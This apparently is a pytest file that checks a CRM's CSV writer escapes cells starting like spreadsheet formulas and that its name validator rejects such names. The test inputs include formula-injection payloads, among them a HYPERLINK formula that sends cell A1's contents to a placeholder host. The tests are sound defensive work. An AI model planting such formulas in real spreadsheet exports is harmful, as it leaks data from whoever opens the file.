"""CSV the product writes (crm.spreadsheet): no cell starts like a formula.

Read back with the csv module, as a spreadsheet would split it, so the test sees the
cells a colleague's Excel would evaluate, not the writer's intent.
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from crm import validation
from crm.exceptions import InvalidInput
from crm.spreadsheet import FORMULA_START, csv_text, safe_cell


def read_back(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        '=HYPERLINK("http://example.invalid/?x="&A1, "详情")',
        "+86 138",
        "-2+3",
        "@SUM(1+1)",
        "\uff1d1+1",  # full-width =, as a Chinese input method types it
        "\t=1+1",  # a tab hiding the formula's first character
        "\r=1+1",
        "\n@SUM(1)",
    ],
)
def test_a_text_cell_that_starts_like_a_formula_is_written_as_text(cell: str) -> None:
    (row,) = read_back(csv_text([["3", "201", cell, "ok"]]))
    assert row == ["3", "201", "'" + cell, "ok"]
    assert not row[2].startswith((*FORMULA_START, "\t", "\r", "\n"))


def test_other_cells_are_written_as_they_are() -> None:
    rows = [
        ["张伟", "漏水-厨房", "a=b", "O'Brien", "多行\n说明, 带逗号", ""],
        [-5, 12.5, Decimal("-0.50"), None, True, 0],
    ]
    assert read_back(csv_text(rows)) == [
        ["张伟", "漏水-厨房", "a=b", "O'Brien", "多行\n说明, 带逗号", ""],
        ["-5", "12.5", "-0.50", "", "true", "0"],
    ]


def test_numbers_are_numbers_and_text_that_looks_negative_is_text() -> None:
    assert safe_cell(-5) == -5
    assert safe_cell("-5") == "'-5"


@pytest.mark.parametrize("start", FORMULA_START)
def test_a_name_may_not_start_like_a_formula(start: str) -> None:
    """The name rule refuses at the door what the writer would have to neutralise."""
    with pytest.raises(InvalidInput) as refused:
        validation.name("name", f"{start}张伟")
    assert "formula" in refused.value.reason
